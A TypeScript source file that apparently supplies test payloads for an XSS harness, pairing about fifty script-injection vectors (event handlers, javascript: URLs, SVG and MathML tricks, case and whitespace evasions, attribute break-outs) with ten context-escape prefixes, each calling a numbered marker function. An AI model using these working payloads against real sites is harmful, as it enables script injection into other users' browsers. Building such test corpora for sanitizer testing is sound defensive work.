// Scripts that would run by themselves if a page took them for markup, each with a number by which it is known.
import { mark } from './hostile.ts';

const call = (n: number) => `${mark}(${n})`;

const vectors: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script>setTimeout('${js}')</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src onerror=${js}>`,
  (js) => `<IMG SRC=x OnErRoR=${js}>`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<img\nsrc=x\nonerror=${js}>`,
  (js) => `<img\tsrc=x\tonerror='${js}'>`,
  (js) => `<img src=x onerror="&#x${js.charCodeAt(0).toString(16)};${js.slice(1)}">`,
  (js) => `<img srcset=x onerror=${js}>`,
  (js) => `<picture><img src=x onerror=${js}></picture>`,
  (js) => `<input type=image src=x onerror=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `<xss tabindex=1 autofocus onfocus=${js}>x</xss>`,
  (js) => `<a href=# autofocus onfocus=${js}>x</a>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href=" jAvAsCrIpT:${js}">x</a>`,
  (js) => `<svg onload=${js}></svg>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s /></svg>`,
  (js) => `<svg><set onbegin=${js} attributeName=x /></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  (js) => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  (js) => `<body onload=${js}>`,
  (js) => `<body onpageshow=${js}>`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<video src=x onerror=${js}></video>`,
  (js) => `<video><source src=x onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<style onload=${js}></style>`,
  (js) => `<link rel=stylesheet href=x onerror=${js}>`,
  (js) => `<object data=x onerror=${js}></object>`,
  (js) => `<embed src=x onerror=${js}>`,
  (js) => `<iframe onload=${js}></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `" autofocus onfocus=${js} x="`,
];

/** Ways out of where a text may stand: an attribute, a field, a title, a list, a comment, a script. */
const waysOut = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</option></select>',
  '-->',
  '</script>',
  '</style></noscript></template>',
  '\0"/>',
];

export type Payload = { n: number; text: string };

export const payloads: readonly Payload[] = waysOut.flatMap((out, group) =>
  vectors.map((vector, at) => {
    const n = group * vectors.length + at;
    return { n, text: `${out}${vector(call(n))}` };
  }),
);
